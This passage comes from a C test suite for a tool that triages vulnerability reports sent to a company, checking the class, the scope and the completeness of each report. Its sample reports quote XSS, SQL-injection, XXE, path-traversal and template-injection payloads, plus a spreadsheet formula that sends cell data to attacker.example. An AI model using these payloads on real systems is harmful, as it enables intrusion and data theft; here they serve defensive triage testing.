	{"In the Stripe dashboard any team member can see full card numbers; I "
	 "know you use Stripe.",
	 "none", "out"},
	{"SQL injection at https://shop.partner-example.net/item?id=1' OR 1=1-- "
	 "on a site that links to you.",
	 "sqli", NULL},	/* out only with InScopeDomains set */
	/* scope in: ours, no URL but a flaw with impact */
	{"In the mobile app 2.3 any agent can see every other agent's call "
	 "history by changing the agent id; an attacker can read all calls.",
	 "auth", "in"},
	{"Two coupons sent at the same time both apply on "
	 "https://app.example.org/billing, so the attacker gets double credit.",
	 "other", "in"},
	/* xss / sqli other languages */
	{"Encontré un XSS reflejado en "
	 "https://app.example.org/search?q=<script>alert(1)</script>.",
	 "xss", "in"},
	{"J'ai trouvé une faille XSS stockée sur https://app.example.org/notes "
	 ": <img src=x onerror=alert(1)>.",
	 "xss", "in"},
	{"Ich habe eine SQL-Injection in https://app.example.org/list?id=1 "
	 "gefunden: id=1' AND 1=1-- liefert alles.",
	 "sqli", "in"},
	{"Encontrei injeção SQL em https://app.example.org/busca?q=1' OR '1'='1.",
	 "sqli", "in"},
	{"Inyeccion de SQL en el parametro id de "
	 "https://app.example.org/report?id=5.",
	 "sqli", "in"},
	/* dos */
	{"Uploading a CSV with a million columns to "
	 "https://app.example.org/import pins the CPU at 100% and the app stops "
	 "responding for everyone.",
	 "dos", "in"},
	{"A zip of 10 MB that expands to 10 GB, uploaded at "
	 "https://app.example.org/import, filled the disk and the service went "
	 "down.",
	 "dos", "in"},
	/* xxe */
	{"The contact import at https://app.example.org/import/xml reads local "
	 "files through an external entity: <!ENTITY x SYSTEM "
	 "\"file:///etc/passwd\">.",
	 "xxe", "in"},
	/* open redirect, prose */
	{"The link https://app.example.org/go?to=https://scam.example sends "
	 "anyone who clicks it to the scam site.",
	 "open_redirect", "in"},
	/* mixed */
	{"The donation page https://www.example.org/donate loads its jQuery "
	 "over http, so the page is partly insecure.",
	 "mixed_content", "in"},
	/* auth, other: more ways to tell them; near misses */
	{"On https://app.example.org/settings the e-mail can be changed without "
	 "the current password, so a stolen session becomes a full account "
	 "takeover.",
	 "auth", "in"},
	{"As an agent I could open https://app.example.org/admin/billing and "
	 "download invoices, which should be admin-only.",
	 "auth", "in"},
	{"A password reset link sent to me also logs me in on "
	 "https://app.example.org without asking for the 2FA code.",
	 "auth", "in"},
	{"Reset tokens at https://app.example.org/reset?token=000123 are "
	 "sequential, so I can reset the password of another user.",
	 "auth", "in"},
	{"i can login to any account at https://app.example.org/login if i know "
	 "the email, the password is not checked when remember=1.",
	 "auth", "in"},
	{"The mobile API https://api.example.org/m/v1/profile returns the "
	 "profile of whoever's user_id I put in the header.",
	 "auth", "in"},
	{"Negative amount in the transfer at "
	 "https://app.example.org/credits/transfer adds credit to my balance.",
	 "other", "in"},
	{"Your domain has no SPF and DMARC records; I can send email as "
	 "anyone@example.org, see header screenshot.",
	 "other", NULL},
	{"The old subdomain promo.example.org has a CNAME to an unclaimed "
	 "Netlify site; I could take it over.",
	 "other", NULL},	/* in with InScopeDomains: a host of ours named */
	{"When do invoices of other customers get generated, at the start of "
	 "the month?",
	 "none", NULL},
	{"I lost my phone and cannot log in with 2FA, please help me.",
	 "none", NULL},
	{"I was able to access the dashboard https://app.example.org/dashboard of "
	 "other customer by only changing org_id cookie.",
	 "auth", "in"},
	/* the classes with payloads told in plain words */
	{"hello, i put script tag in name field on "
	 "https://app.example.org/profile and the alert popup come when other "
	 "user open page",
	 "xss", "in"},
	{"The javascript I typed into the survey title on "
	 "https://app.example.org/surveys executes when an agent opens it.",
	 "xss", "in"},
	{"When I put a quote in https://app.example.org/search?q=a' the page "
	 "shows a MySQL syntax error, and with two quotes it is fine.",
	 "sqli", "in"},
	{"The PDF generator on https://app.example.org/reports evaluates the "
	 "expression ${7*7} from the header field and prints 49.",
	 "rce", "in"},
	{"The import-from-URL option on https://app.example.org/import made a "
	 "request to my server from your internal IP and I could point it at "
	 "http://localhost:8080/admin.",
	 "ssrf", "in"},
	{"The delete endpoint https://app.example.org/contacts/delete accepts a "
	 "GET request from any other site, no token, so a link in a mail "
	 "deletes contacts of a logged-in user.",
	 "csrf", "in"},
	{"https://app.example.org/static?f=....//....//etc/passwd gives me the "
	 "passwd file.",
	 "path_traversal", "in"},
	{"Uploading a DOCX whose document.xml declares an entity pointing to "
	 "file:///etc/hosts to https://app.example.org/import shows the hosts "
	 "file content.",
	 "xxe", "in"},
	{"The password field on https://app.example.org/signup accepts 1 MB "
	 "passwords and each signup takes 20 seconds of CPU, a few requests "
	 "freeze the site.",
	 "dos", "in"},

	/*
	 * Round 3: code run through a console left open, whatever the way
	 * in; mail bombing through a form anyone can submit (its missing
	 * captcha, limit or token is the means); text messages sent as
	 * anyone; what a link shows to whoever holds it; password guessing
	 * told as a count. Near misses: scripts run against the API, a
	 * captcha asked for on a contact form, a sender name wished for.
	 */
	{"From the guest Wi-Fi I reached the build server's script console "
	 "at http://10.0.4.7:8080/script and evaluated Python code there.",
	 "rce", NULL},
	{"The CI job editor at https://ci.example.org/jobs lets anyone run shell "
	 "code on the runner; I executed whoami and it printed ci-runner.",
	 "rce", NULL},
	{"The report template may call \"ls\".execute() and the PDF then "
	 "holds the output.",
	 "rce", NULL},
	{"We run Python scripts against your API every night to sync our contacts.",
	 "none", NULL},
	{"The callback form at https://www.example.org/callback/ has no captcha "
	 "and no CSRF token, and every submission mails a confirmation to "
	 "whatever address is typed, so a bot can mail-bomb anybody.",
	 "other", NULL},
	{"The newsletter box has no CSRF token and no rate limit; it is an "
	 "e-mail flooding tool for anyone.",
	 "other", NULL},
	{"Could you add a captcha to the contact form? We get junk every day.",
	 "none", NULL},
	{"A trial workspace can text anyone as any sender name it likes, "
	 "which is SMS phishing made easy.",
	 "other", NULL},
	{"Is it possible to choose any sender name for our campaigns?",
	 "none", NULL},
	{"The shared invoice link displays the customer's personal details to "
	 "anybody who holds it, no login asked.",
	 "info_disclosure", NULL},
	{"The login at https://app.example.org/login never slows down: I tried "
	 "3,000 passwords against my own account in an hour.",
	 "auth", NULL},
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	judge(&t, &r, "Report", cases[i].text, NULL);
	if (strcmp(t.classes.n ? first(&t.classes) : "none", cases[i].cls) != 0)
	    fail_msg("case %zu: want %s, got %s", i, cases[i].cls,
		     t.classes.n ? first(&t.classes) : "none");
	if (cases[i].scope != NULL
	    && strcmp(cases[i].scope, t.scope == SCOPE_IN ? "in" :
		      t.scope == SCOPE_OUT ? "out" : "unclear") != 0)
	    fail_msg("case %zu (%.40s): want scope %s, got %d", i, cases[i].text,
		     cases[i].scope, (int) t.scope);
	triage_free(&t);
	report_destroy(&r);
    }
}

static void test_negation_and_quoting(void **state)
{
    struct report r;
    struct triage t;

    (void) state;

    /* "not an XSS": the class named next is the report. */
    judge(&t, &r, "Bug", "This is not an XSS, it's an open redirect: "
	  "https://app.callhub.io/out?url=https://evil.com", NULL);
    assert_string_equal(first(&t.classes), "open_redirect");
    assert_false(has(&t.classes, "xss"));
    triage_free(&t);
    report_destroy(&r);

    /* A follow-up quoting an earlier XSS mail while it reports SQLi. */
    judge(&t, &r, "Re: another issue",
	  "Hello again, I also found a SQL injection in the reports filter: "
	  "status=1' UNION SELECT password FROM users--\n\n"
	  "On Mon, 3 Aug 2026 at 10:00, Bob <bob@researcher.example> wrote:\n"
	  "> I found a stored XSS in the notes: <script>alert(1)</script>\n"
	  "> Cross-site scripting, CWE-79.\n", NULL);
    assert_string_equal(first(&t.classes), "sqli");
    assert_false(has(&t.classes, "xss"));
    triage_free(&t);
    report_destroy(&r);

    /* Outlook style quoting counts nothing either. */
    judge(&t, &r, "RE: question", "Any news on this?\n\n"
	  "-----Original Message-----\nFrom: me\nSent: Monday\n"
	  "Subject: XSS\n\nStored XSS in the notes <script>alert(1)</script>\n", NULL);
    assert_int_equal(t.classes.n, 0);
    triage_free(&t);
    report_destroy(&r);
}

static void test_completeness_evidence(void **state)
{
    struct report r;
    struct triage t;

    (void) state;
    judge(&t, &r, "IDOR in recordings",
	  "Hello,\n\nI found an IDOR in https://app.callhub.io/api/v1/recordings/1041.\n\n"
	  "Go to the recordings page and open one recording.\n"
	  "Change the id in the URL to 1042 and press enter.\n"
	  "You can see the recording of another account.\n\n"
	  "An attacker can listen to the calls of every other customer.\n\n"
	  "GET /api/v1/recordings/1042 HTTP/1.1\nHost: app.callhub.io\n", NULL);
    report_add_url(&r, "https://app.callhub.io/api/v1/recordings/1041");
    triage_free(&t);
    triage_init(&t);
    assert_int_equal(triage_classify(NULL, &r, "reporter@researcher.example", NULL, &t), 0);
    assert_string_equal(first(&t.classes), "auth");
    assert_true(t.complete[ITEM_TYPE]);
    assert_true(t.complete[ITEM_TARGET]);
    assert_true(t.complete[ITEM_IMPACT]);
    assert_true(t.complete[ITEM_STEPS]);	/* not numbered */
    assert_true(t.complete[ITEM_POC]);	/* an HTTP request */
    ev_points_at(&r, ev_find(&t, EV_ITEM, "impact"), "An attacker can");
    ev_points_at(&r, ev_find(&t, EV_ITEM, "target"), "https://app.callhub.io/api/v1/recordings/1041");
    ev_points_at(&r, ev_find(&t, EV_ITEM, "poc"), "GET /api/v1/recordings/1042");
    assert_non_null(ev_find(&t, EV_ITEM, "steps"));
    assert_non_null(ev_find(&t, EV_ITEM, "type"));
    triage_free(&t);
    report_destroy(&r);

    /* A bare claim: type only, the rest asked for. */
    judge(&t, &r, "XSS", "Your site has XSS.", NULL);
    assert_true(t.complete[ITEM_TYPE]);
    assert_false(t.complete[ITEM_TARGET]);
    assert_false(t.complete[ITEM_IMPACT]);
    assert_false(t.complete[ITEM_STEPS]);
    assert_false(t.complete[ITEM_POC]);
    assert_null(ev_find(&t, EV_ITEM, "impact"));
    triage_free(&t);
    report_destroy(&r);

    /* A product and its version is a target. */
    judge(&t, &r, "Android app", "The CallHub Android app version 4.2.1 stores "
	  "the session token in plain text.", NULL);
    assert_true(t.complete[ITEM_TARGET]);
    triage_free(&t);
    report_destroy(&r);
}

 /*
  * The target in the reporter's own words: an asset URL or host, an
  * endpoint's path, the product's sender address; not a URL inside a
  * payload, not the security address, not quoted earlier mail (unless
  * the mail is a forward).
  */
static void test_target_own_words(void **state)
{
    static const struct {
	const char *subject;
	const char *text;
	int     target;
    }       cases[] = {
	{"Report", "Reflected XSS at https://www.callhub.io/search/?q=x in the q parameter.", 1},
	{"Report", "The password reset on app.callhub.io never expires its links.", 1},
	{"Stored XSS in /campaigns/edit", "Details below soon.", 1},
	{"Report", "IDOR on the endpoint /v1/invoices/{id}/ returns any invoice.", 1},
	{"Report", "The reminder mails sent from no-reply@callhub.io show the raw HTML.", 1},
	{"Fwd: a customer's bug", "FYI.\n\n-----Original Message-----\nFrom: A <a@b.example>\n\n"
	 "On https://app.callhub.io/agent/ other teams' notes show up.", 1},
	{"Report", "I mailed security@callhub.io twice about it without an answer.", 0},
	{"Report", "A cell set to =HYPERLINK(\"http://attacker.example/?d=\"&B1) runs when opened.", 0},
	{"Report", "Traversal: the download returns the content of /etc/passwd.", 0},
	{"Re: [SEC-9] IDOR", "Any news?\n\nOn Tue, 3 Mar 2026 at 09:00, R <r@x.example> wrote:\n"
	 "> GET https://api.callhub.io/v1/notes/5/ gives others' notes\n", 0},
	{"Re: [SEC-9] IDOR", "Any news?\n\n> I tried it on app.callhub.io yesterday.\n", 0},
    };
    struct sm_config cfg;
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    sm_config_init(&cfg);
    assert_int_equal(strlist_add(&cfg.in_scope_domains, "callhub.io"), 0);
    assert_int_equal(strlist_add(&cfg.in_scope_domains, "*.callhub.io"), 0);
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	judge(&t, &r, cases[i].subject, cases[i].text, &cfg);
	if (t.complete[ITEM_TARGET] != cases[i].target)
	    fail_msg("case %zu: target %d, want %d", i, t.complete[ITEM_TARGET], cases[i].target);
	triage_free(&t);
	report_destroy(&r);
    }
    sm_config_free(&cfg);
}

 /*
  * Completeness as people write it: procedures in prose, lead-ins,
  * menu paths and commands (steps); impact with words between the actor
  * and the verb, hedged verbs, whose data, observed outages (impact);
  * commands, inline requests, quoted server answers, crafted links
  * (poc). Each case is phrased anew, not taken from any mail.
  */
static void test_completeness_wordings(void **state)
{
    static const struct {
	int     item;
	const char *text;
	int     want;
    }       cases[] = {
	/* steps */
	{ITEM_STEPS, "SQL injection. To see it: load the orders page with sort=name' and watch the error.", 1},
	{ITEM_STEPS, "XSS in the tag editor. Repro: create a tag called <b>x</b>, save, reload.", 1},
	{ITEM_STEPS, "Stored XSS in the signature. Simply paste the payload in your signature and save it.", 1},
	{ITEM_STEPS, "IDOR. I put my colleague's id in the invoice URL and got his invoice back.", 1},
	{ITEM_STEPS, "Stored XSS via Billing > Company details > Address, the field is not escaped.", 1},
	{ITEM_STEPS, "Weak TLS.\n\n  sslscan --no-failed api.example.org\n", 1},
	{ITEM_STEPS, "Your site has a clickjacking problem.", 0},
	/* steps: an instruction after a blank line or a comma, a page action */
	{ITEM_STEPS, "XXE in the feed importer.\n\nImport this feed at https://app.example.org/feeds/ and read the title.", 1},
	{ITEM_STEPS, "Clickjacking PoC is frame.html, open it in Firefox while logged in.", 1},
	{ITEM_STEPS, "Stored XSS, same field as before. Edit the label, refresh the board.", 1},
	{ITEM_STEPS, "The CSP header is weak, please add it.", 0},
	{ITEM_STEPS, "A network attacker could\nreplace the script and run code.", 0},
	/* steps: a first-person account in sequence, the subject left out */
	{ITEM_STEPS, "I registered a second workspace and invited my first account to it.", 1},
	{ITEM_STEPS, "Support reset my MFA. We then requested a password link for the account.", 1},
	{ITEM_STEPS, "leaked passwords from a dump: tried 15 on the portal, 2 worked.", 1},
	{ITEM_STEPS, "I reported this to your support last year and got no answer.", 0},
	/* steps: a lead-in, a boolean test, a command after a label */
	{ITEM_STEPS, "Lockout abuse. Reproduced with a fresh trial: six bad passwords and the owner is locked.", 1},
	{ITEM_STEPS, "Blind SQLi: ?cat=3 or 2=2 returns every product, ?cat=3 or 2=3 returns none.", 1},
	{ITEM_STEPS, "Open bucket.\n\nListing: gsutil ls gs://backup-exports-example\n", 1},
	{ITEM_STEPS, "Zip slip.\n\n  aws s3 cp s3://pub-example/a.zip .\n", 1},
	{ITEM_STEPS, "Mass assignment: open your profile, then set the plan field to enterprise.", 1},
	/* steps: how it was reported, a check that passed */
	{ITEM_STEPS, "I opened a ticket and forwarded the details to your support desk.", 0},
	{ITEM_STEPS, "Our QA tested it on staging: all good now.", 0},
	/* steps: a scanner's findings are not steps; a state is not an action */
	{ITEM_STEPS, "Findings:\n1. Missing HSTS header - Medium\n2. Cookie without Secure flag - Low\n", 0},
	{ITEM_STEPS, "Subject line aside, the DMARC policy is set to quarantine.", 0},
	/* steps: first-person actions in a row, a request told, a tool or script run */
	{ITEM_STEPS, "I signed in on my laptop and my phone, reset the password on the laptop, and the phone stayed in.", 1},
	{ITEM_STEPS, "We invited a fresh agent, accepted the invite in a private window and opened the billing page.", 1},
	{ITEM_STEPS, "Logged in as tenant A, I requested https://api.example.org/v3/boards/19/ which is tenant B's board.", 1},
	{ITEM_STEPS, "To be sure I ran medusa against my own login for twenty minutes.", 1},
	{ITEM_STEPS, "I used a short python script to post 3000 codes to the verify endpoint.", 1},
	{ITEM_STEPS, "I rang your helpdesk, claimed to be my manager and asked for a new login link.", 1},
	/* steps: "Steps" headings, other languages, "reproduce by" */
	{ITEM_STEPS, "Steps - open the profile, press Export, read the file.", 1},
	{ITEM_STEPS, "STEPS\nmake a note with the payload\nview it as another agent", 1},
	{ITEM_STEPS, "Schritte zum Nachstellen: anmelden, Profil \xc3\xb6" "ffnen, Namen speichern.", 1},
	{ITEM_STEPS, "Pasos: entrar como agente, abrir la lista, cambiar el id.", 1},
	{ITEM_STEPS, "Passos: entrar na conta, abrir o relat\xc3\xb3rio, mudar o n\xc3\xbamero.", 1},
	{ITEM_STEPS, "\xc3\x89tapes : se connecter, ouvrir la facture, changer le num\xc3\xa9ro.", 1},
	{ITEM_STEPS, "It is reproducible by pasting the snippet into the signature field.", 1},
	{ITEM_STEPS, "Reproduce it by uploading the attached SVG as your avatar.", 1},
	{ITEM_STEPS, "To trigger it, set the callback URL to an internal address and press Test.", 1},
	/* steps: a conditional experiment with a place and a result, a gerund with its result */
	{ITEM_STEPS, "if i type a double quote in the coupon field i get a syntax error back", 1},
	{ITEM_STEPS, "When a backtick is entered in the tag filter the API returns a stack of SQL.", 1},
	{ITEM_STEPS, "If you paste <i>x</i> into the comment box, other viewers see italics.", 1},
	{ITEM_STEPS, "Raising the page number past 900 in the link returns invoices of other shops.", 1},
	{ITEM_STEPS, "Editing the order id in the URL gives the order of another buyer.", 1},
	{ITEM_STEPS, "In the preview the name {{ 3*3 }} is shown as 9, and ${3*3} printed 9 too.", 1},
	{ITEM_STEPS, "A note saved as plain text.\n\nRequest:\n\nPOST /api/notes/ HTTP/1.1\nHost: api.example.org\n", 0},
	/* steps: questions about reproducing, a capture described, a vague hint */
	{ITEM_STEPS, "Were you able to reproduce it on your side?", 0},
	{ITEM_STEPS, "Since your update I can no longer reproduce the bug.", 0},
	{ITEM_STEPS, "Tell me if you need more details to reproduce.", 0},
	{ITEM_STEPS, "Attached is a video of the app when I open my inbox.", 0},
	{ITEM_STEPS, "If you want, I can send you everything and show you on a call.", 0},
	{ITEM_STEPS, "When an attacker sends the link, the victim's browser runs it.", 0},
	{ITEM_STEPS, "Schritte folgen in der n\xc3\xa4" "chsten Mail.", 0},
	/* steps: subjectless past tense, present tense, tried and it worked */
	{ITEM_STEPS, "Signed in as a dispatcher, opened the billing URL by hand, it loaded.", 1},
	{ITEM_STEPS, "i open the invoice, change the number in url and i see other invoice", 1},
	{ITEM_STEPS, "I reused the old magic link next day and it still worked.", 1},
	{ITEM_STEPS, "Reproduce: sign in, open /exports, swap the file id.", 1},
	{ITEM_STEPS, "We use your dialer every day and we love it.", 0},
	/* steps: how it was reported, a suggestion, an offer are not what was done */
	{ITEM_STEPS, "I filed a support ticket in May, and added the screenshots you asked for.", 0},
	{ITEM_STEPS, "We joined your bounty program and sent our first report last week.", 0},
	{ITEM_STEPS, "Adding a captcha to the signup form makes it much safer.", 0},
	{ITEM_STEPS, "When you confirm the bounty I will share the whole write-up.", 0},
	/* steps: a lead-in naming what reproduces it, a test announced, a trial with its count, a first-person trial, where a button led */
	{ITEM_STEPS, "Upload timeouts for all. Command to reproduce it is below this line.", 1},
	{ITEM_STEPS, "We ran a simple test: twenty uploads of a 1 GB file, then the API stopped answering.", 1},
	{ITEM_STEPS, "The PIN page never blocks. I entered six wrong PINs in a row and each attempt returned the same notice.", 1},
	{ITEM_STEPS, "The banner editor takes links. I tried embedding a link to a look-alike login page; in the agent view it appears as a system message.", 1},
	{ITEM_STEPS, "The Renew button took me to a billing page, and I pasted the link in an incognito window: it opened without login.", 1},
	{ITEM_STEPS, "Command-line tools are not supported by the API.", 0},
	{ITEM_STEPS, "Each request matters to us, please fix it soon.", 0},
	{ITEM_STEPS, "I used to work for a call centre that tested your product.", 0},
	/* impact */
	{ITEM_IMPACT, "CSRF. An attacker who gets a logged-in agent to visit a page\ncan rename every campaign.", 1},
	{ITEM_IMPACT, "SQL injection in the search; anybody with a trial account could probably dump the users table.", 1},
	{ITEM_IMPACT, "IDOR in exports: I got the call lists of other organisations.", 1},
	{ITEM_IMPACT, "After the request the dashboard was unavailable for twenty minutes.", 1},
	{ITEM_IMPACT, "The leaked key gives full access to the mail account.", 1},
	{ITEM_IMPACT, "The debug page has a blue background.", 0},
	/* impact: what is exposed if worth having, gerunds made possible, not mine, outages seen */
	{ITEM_IMPACT, "The backup endpoint leaks password hashes of the staff.", 1},
	{ITEM_IMPACT, "The X-Powered-By header discloses version 8.1 of PHP.", 0},
	{ITEM_IMPACT, "The import parser likely allows reading local files.", 1},
	{ITEM_IMPACT, "With id+1 I could open invoices that I did not place.", 1},
	{ITEM_IMPACT, "Lowering the id shows lists of workspaces I am not a member of.", 1},
	{ITEM_IMPACT, "During the test the portal was not loading for my colleague either.", 1},
	{ITEM_IMPACT, "I am not a member of any bug bounty platform.", 0},
	/* impact: what is seen that belongs to someone else, and what it holds */
	{ITEM_IMPACT, "Lowering the number, he reads the chat logs of a totally different shop with buyer names and card numbers.", 1},
	{ITEM_IMPACT, "The export endpoint returns another tenant's contacts.", 1},
	{ITEM_IMPACT, "Billing history of another company visible to any trial user", 1},
	{ITEM_IMPACT, "I could download the reports of a different agency.", 1},
	{ITEM_IMPACT, "The page shows my own notes with my name and phone number.", 0},
	{ITEM_IMPACT, "The signup form asks for names and phone numbers of the volunteers.", 0},
	/* impact: who would be fooled, rights gained, what the server reaches */
	{ITEM_IMPACT, "Volunteers would trust the banner since it sits inside the dashboard.", 1},
	{ITEM_IMPACT, "Callers will believe it, the SMS carries your brand name.", 1},
	{ITEM_IMPACT, "Any dispatcher can make herself an administrator with one PATCH.", 1},
	{ITEM_IMPACT, "A viewer account becomes owner after the role field is edited.", 1},
	{ITEM_IMPACT, "The PDF renderer reaches the cloud metadata service.", 1},
	{ITEM_IMPACT, "Users will click the Export button to get the CSV.", 0},
	/* impact: the heading and the attacker in other languages */
	{ITEM_IMPACT, "Auswirkung: fremde Anrufaufzeichnungen sind abrufbar.", 1},
	{ITEM_IMPACT, "Impacto: se pueden leer las notas de otros clientes.", 1},
	{ITEM_IMPACT, "Impatto: le chiamate degli altri clienti sono leggibili.", 1},
	{ITEM_IMPACT, "Ein Angreifer kann die Rechnungen anderer Firmen herunterladen.", 1},
	{ITEM_IMPACT, "Um atacante pode apagar as campanhas de qualquer conta.", 1},
	/* impact: the means is not the gain */
	{ITEM_IMPACT, "Anyone can build such a link on your domain.", 0},
	{ITEM_IMPACT, "Someone could craft a link that steals the agent's session.", 1},
	/* impact: an ordinary member doing what is not theirs, what the victim loses, made public */
	{ITEM_IMPACT, "With that a read-only user deletes the campaigns of the owner.", 1},
	{ITEM_IMPACT, "The owner would lose control of the workspace.", 1},
	{ITEM_IMPACT, "Exported contact files are downloadable by anyone who has the link.", 1},
	{ITEM_IMPACT, "Consequences: strangers listen to the owner's calls.", 1},
	{ITEM_IMPACT, "Every agent sees the dashboard after login.", 0},
	{ITEM_IMPACT, "Your API docs are public.", 0},
	{ITEM_IMPACT, "Risk: low", 0},
	/* impact: a vague claim of harm is not one */
	{ITEM_IMPACT, "I found a critical bug which can lead to big loss, what is the reward?", 0},
	/* impact: what information hands an attacker, what is destroyed, what users can no longer do, impact in a sentence */
	{ITEM_IMPACT, "The trace names every library version, which hands valuable hints to an attacker.", 1},
	{ITEM_IMPACT, "Knowing the internal host names helps to mount more targeted attacks.", 1},
	{ITEM_IMPACT, "Any page open in another tab could wipe the victim's call lists.", 1},
	{ITEM_IMPACT, "After the replay, all recordings of the account were gone.", 1},
	{ITEM_IMPACT, "For the whole afternoon our volunteers could not log in to the dialer.", 1},
	{ITEM_IMPACT, "So the impact is that every agent's browser runs the attacker's script.", 1},
	{ITEM_IMPACT, "You could wipe the cache and disable the debug toolbar to fix it.", 0},
	{ITEM_IMPACT, "We cannot reproduce the problem you mentioned.", 0},
	{ITEM_IMPACT, "After your fix the error is gone.", 0},
	{ITEM_IMPACT, "I am not sure what the impact is.", 0},
	/* poc */
	{ITEM_POC, "Load test.\n\n  $ wrk -t4 -c200 https://api.example.org/v2/ping\n", 1},
	{ITEM_POC, "IDOR: PUT /api/v2/notes/77/ with {\"owner\": 12} moves the note.", 1},
	{ITEM_POC, "Error based SQLi: name=a' AND updatexml(1,concat(0x7e,user()),1) gives the user.", 1},
	{ITEM_POC, "Verbose errors: the endpoint returns HTTP 500 with a trace.", 1},
	{ITEM_POC, "Open redirect on login, the next parameter is not checked.", 0},
	/* poc: an id changed with its values, the lure text, a listing command */
	{ITEM_POC, "IDOR on invoices: I set the invoice_id in the request to 4410 and got another shop's invoice.", 1},
	{ITEM_POC, "The banner takes any text, for instance \"Your account has been suspended, call +1 555 0100\".", 1},
	{ITEM_POC, "Public bucket. Listing: aws s3 ls s3://exports-example --no-sign-request", 1},
	/* poc: an endpoint named, a target line, a mail attached, a screenshot someone sent */
	{ITEM_POC, "The verify step (POST https://app.example.org/v2/verify/) takes unlimited codes.", 0},
	{ITEM_POC, "URL: https://app.example.org/settings/", 0},
	{ITEM_POC, "Please see the attached mail from our customer about it.", 0},
	{ITEM_POC, "The clerk answered with a screenshot of the admin settings.", 0},
	/* poc: an id swap shown with its two values, whoever did it */
	{ITEM_POC, "He edits the link (https://app.example.org/board/8812/cards/ to 8813) and gets another board.", 1},
	{ITEM_POC, "Our intern moved the invoice id from 7719 to 7720 and saw a stranger's invoice.", 1},
	{ITEM_POC, "We grew from 10 to 12 agents last month.", 0},
	{ITEM_POC, "Please upgrade from version 10 to 12 of the library.", 0},
	/* poc: a proof sent in an earlier mail is not in this one */
	{ITEM_POC, "Any news on my ticket? I shared the PoC last week.", 0},
	{ITEM_POC, "Still open after a month; I already sent you the payload.", 0},
	/* poc: code that runs a command; a proof promised for later is not given */
	{ITEM_POC, "The sandbox lets a plugin call os.system('id') and prints the result.", 1},
	{ITEM_POC, "Stored XSS in notes. I have a payload and a screen recording that we will share once you confirm the reward.", 0},
	{ITEM_POC, "Before we send the full exploit and the proof of concept, tell us your bounty range.", 0},
	{ITEM_POC, "Stored XSS in notes, payload <svg onload=alert(1)>. I can send a video if you want one.", 1},
	{ITEM_POC, "Burp Intruder with one payload position on the password was enough to see there is no limit.", 0},
	{ITEM_POC, "My PoC page is up at http://events.example.org/poc.html; I will release the app as soon as you tell me.", 1},
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	judge(&t, &r, "Report", cases[i].text, NULL);
	if (t.complete[cases[i].item] != cases[i].want)
	    fail_msg("case %zu: item %d is %d, want %d", i, cases[i].item,
		     t.complete[cases[i].item], cases[i].want);
	triage_free(&t);
	report_destroy(&r);
    }
}

static void test_scope_reasons(void **state)
{
    struct report r;
    struct triage t;
    const struct triage_evidence *ev;

    (void) state;

    /* An in-scope class names the policy's example. */
    judge(&t, &r, "CSRF", "The email change form of https://app.callhub.io/settings "
	  "has no CSRF token.", NULL);
    assert_int_equal(t.scope, SCOPE_IN);
    assert_non_null(strstr(first(&t.scope_reasons), "example 2"));
    ev = ev_find(&t, EV_SCOPE, first(&t.scope_reasons));
    assert_non_null(ev);
    assert_non_null(ev->match);
    triage_free(&t);
    report_destroy(&r);

    /* Clickjacking that rests on a missing header: exclusion 1. */
    judge(&t, &r, "Clickjacking", "https://app.callhub.io can be framed: the "
	  "X-Frame-Options header is missing, so clickjacking is possible.", NULL);
    assert_string_equal(first(&t.classes), "missing_headers");
    assert_int_equal(t.scope, SCOPE_OUT);
    assert_non_null(strstr(first(&t.scope_reasons), "policy exclusion 1"));
    triage_free(&t);
    report_destroy(&r);

    /* Content spoofing by a normal user: not the exclusion; a product: in. */
    judge(&t, &r, "Content spoofing", "Text injection on the 404 page: "
	  "https://callhub.io/404?msg=Visit+evil shows my arbitrary text.", NULL);
    assert_string_equal(first(&t.classes), "content_spoofing");
    assert_int_equal(t.scope, SCOPE_IN);
    triage_free(&t);
    report_destroy(&r);

    /* An admin who is only the victim is not the actor of exclusion 3. */
    judge(&t, &r, "Text injection", "Text injection: https://callhub.io/welcome?note= "
	  "shows any visitor's text on the page, and even an admin can be fooled by it.", NULL);
    assert_string_equal(first(&t.classes), "content_spoofing");
    assert_int_equal(t.scope, SCOPE_IN);
    triage_free(&t);
    report_destroy(&r);

    /* A listed class, but nothing tells which asset: unclear. */
    judge(&t, &r, "XSS", "I found an XSS, where can I send the details?", NULL);
    assert_int_equal(t.scope, SCOPE_UNCLEAR);
    triage_free(&t);
    report_destroy(&r);

    /* No asset named, but the flaw described: CallHub's product, in. */
    judge(&t, &r, "Old sessions", "After a password change my other session is "
	  "still valid in the second browser, so an attacker who stole it can keep "
	  "using the account.", NULL);
    assert_string_equal(first(&t.classes), "auth");
    assert_int_equal(t.scope, SCOPE_IN);
    assert_true(has(&t.scope_reasons, "no asset named: the flaw described is taken "
		    "as CallHub's (all CallHub products are in scope)"));
    triage_free(&t);
    report_destroy(&r);

    /* A third-party service, by its wording alone. */
    judge(&t, &r, "Payment bug", "I found a vulnerability in Stripe's checkout "
	  "page that CallHub uses.", NULL);
    assert_int_equal(t.scope, SCOPE_OUT);
    assert_non_null(strstr(first(&t.scope_reasons), "third-party"));
    triage_free(&t);
    report_destroy(&r);

    /* Unclassified, but user data is read: in, by the policy's rule. */
    judge(&t, &r, "Data problem", "This vulnerability lets anyone download "
	  "the personal data of its customers from https://app.callhub.io/export.", NULL);
    assert_int_equal(t.scope, SCOPE_IN);
    assert_non_null(strstr(first(&t.scope_reasons), "confidentiality or integrity"));
    triage_free(&t);
    report_destroy(&r);

    /* Code run through a console found from the office network: rce, example 7. */
    judge(&t, &r, "Open build console", "From inside your office network the build "
	  "server https://ci.callhub.io/script has its script console open, so anyone "
	  "there can execute Groovy code.", NULL);
    assert_string_equal(first(&t.classes), "rce");
    assert_int_equal(t.scope, SCOPE_IN);
    assert_non_null(strstr(first(&t.scope_reasons), "example 7"));
    triage_free(&t);
    report_destroy(&r);

    /* What a vendor's payment link shows to whoever holds it: not our asset. */
    judge(&t, &r, "Payment link", "The card payment link "
	  "https://checkout.stripe.com/c/pay/cs_test_a1b2 shows our e-mail address "
	  "and plan to anybody who has it.", NULL);
    assert_string_equal(first(&t.classes), "info_disclosure");
    assert_int_equal(t.scope, SCOPE_OUT);
    assert_true(has(&t.scope_reasons, "checkout.stripe.com is a third-party service, not ours"));
    triage_free(&t);
